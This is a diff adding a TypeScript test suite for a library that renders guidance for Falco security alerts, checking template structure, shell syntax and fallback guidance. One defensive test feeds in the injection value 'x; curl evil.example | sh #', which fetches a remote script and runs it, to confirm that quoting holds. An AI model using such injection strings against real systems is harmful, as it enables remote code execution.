@@ -1,0 +1,140 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { basename, dirname, relative } from 'node:path';
+import { before, describe, test } from 'node:test';
+import { currentRules, findRule, ruleSlug } from '../../src/guidance/catalog.js';
+import { createGuidanceLibrary } from '../../src/guidance/guidance.js';
+import { alertFromRule } from '../helpers/alert-from-rule.js';
+import {
+  allTemplates,
+  checkRendered,
+  codeOf,
+  lintTemplate,
+  ruleTemplates,
+  templatesDir,
+  variants,
+  type Rendered,
+} from '../helpers/guidance-checks.js';
+import { checkShellBlocks, requireShellcheck } from '../helpers/shell-check.js';
+
+const library = createGuidanceLibrary(templatesDir);
+
+describe('guidance templates', () => {
+  test('every template only prints values through helpers', () => {
+    const problems = allTemplates.flatMap(lintTemplate);
+    assert.deepEqual(problems, []);
+  });
+
+  test('every rule template belongs to an official rule, in the folder of its source', () => {
+    const bySlug = new Map(currentRules().map((r) => [ruleSlug(r.name), r]));
+    for (const file of ruleTemplates) {
+      const rule = bySlug.get(basename(file, '.hbs'));
+      assert.ok(rule, `${relative(templatesDir, file)} matches no rule slug`);
+      assert.equal(
+        basename(dirname(file)),
+        rule.source,
+        `${relative(templatesDir, file)} is not under templates/rules/${rule.source}/`,
+      );
+    }
+  });
+
+  test('rule templates are written for their rule: own summary, why, benign causes and triage', () => {
+    for (const file of ruleTemplates) {
+      const text = readFileSync(file, 'utf8');
+      for (const section of [
+        '## Summary',
+        '## Why it matters',
+        '## Common benign causes',
+        '## Triage',
+        '## Contain',
+        '## Fix',
+        '## Tune',
+      ]) {
+        assert.ok(text.includes(section), `${relative(templatesDir, file)} lacks ${section}`);
+      }
+      // The why and benign sections are the rule's own words, not a partial.
+      for (const section of ['## Why it matters', '## Common benign causes']) {
+        const body = text.split(section)[1]!.split('\n## ')[0]!;
+        assert.ok(
+          !/\{\{>/.test(body),
+          `${relative(templatesDir, file)}: ${section} must be written for the rule`,
+        );
+        assert.ok(
+          body.replace(/\{\{[^}]*\}\}/g, '').trim().length > 80,
+          `${relative(templatesDir, file)}: ${section} is too thin`,
+        );
+      }
+    }
+  });
+});
+
+describe('guidance rendered for every official rule', () => {
+  const rendered: Rendered[] = [];
+  before(() => {
+    for (const rule of currentRules()) {
+      for (const v of variants(rule))
+        rendered.push({ label: v.label, guidance: library.forAlert(v.alert), hostile: v.hostile });
+      rendered.push({ label: `${rule.name} [no alert]`, guidance: library.forRule(rule) });
+    }
+  });
+
+  test('renders without leftovers, with parsing YAML and valid Falco snippets, and Slack-safe prose', () => {
+    const problems = rendered.flatMap(checkRendered);
+    assert.deepEqual(problems.slice(0, 50), [], `${problems.length} problems`);
+  });
+
+  test('every shell block passes bash -n and shellcheck', async () => {
+    await requireShellcheck();
+    const blocks = rendered.flatMap(({ label, guidance }) =>
+      codeOf(guidance)
+        .filter((c) => c.lang === 'sh')
+        .map((c, i) => ({ id: `${label} #${i}`, content: c.content })),
+    );
+    // Identical blocks are checked once.
+    const unique = [...new Map(blocks.map((b) => [b.content, b])).values()];
+    const problems = await checkShellBlocks(unique);
+    const lines = [...problems.entries()].map(
+      ([id, ps]) =>
+        `${id}: ${ps.join('; ')}\n${unique.find((b) => b.id === id)?.content.slice(0, 400)}`,
+    );
+    assert.deepEqual(lines.slice(0, 20), [], `${lines.length} shell blocks with problems`);
+  });
+
+  test('a value that would break out of its shell argument stays one argument', async () => {
+    const rule = findRule('Read sensitive file untrusted') ?? currentRules()[0]!;
+    const evil = 'x; curl evil.example | sh #';
+    const g = library.forAlert(
+      alertFromRule(rule, {
+        overrides: Object.fromEntries(rule.outputFields.map((f) => [f, evil])),
+      }),
+    );
+    const sh = codeOf(g).filter((c) => c.lang === 'sh');
+    assert.ok(sh.length > 0);
+    for (const c of sh) {
+      for (const line of c.content.split('\n')) {
+        if (line.includes('curl evil')) assert.match(line, /'x; curl evil\.example \| sh #'/);
+      }
+    }
+  });
+
+  test('custom rules get the generic guidance, and say so', () => {
+    const g = library.forAlert({
+      rule: 'Detect Shell in Container',
+      priority: 'Warning',
+      time: '2024-10-05T13:40:44.385152581Z',
+      output: 'Shell executed in a container',
+      output_fields: {
+        'container.id': '185304d1bba4',
+        'proc.name': 'bash',
+        'proc.cmdline': 'bash /docker-entrypoint.sh auto',
+        'user.name': 'root',
+      },
+      source: 'syscall',
+      tags: ['container', 'process', 'shell'],
+      hostname: 'k8s-master-01',
+    });
+    assert.equal(g.specific, false);
+    assert.match(g.doc.sections[0]!.steps[0]!.text, /generic/);
+    assert.deepEqual(checkRendered({ label: 'custom', guidance: g }), []);
+  });
+});
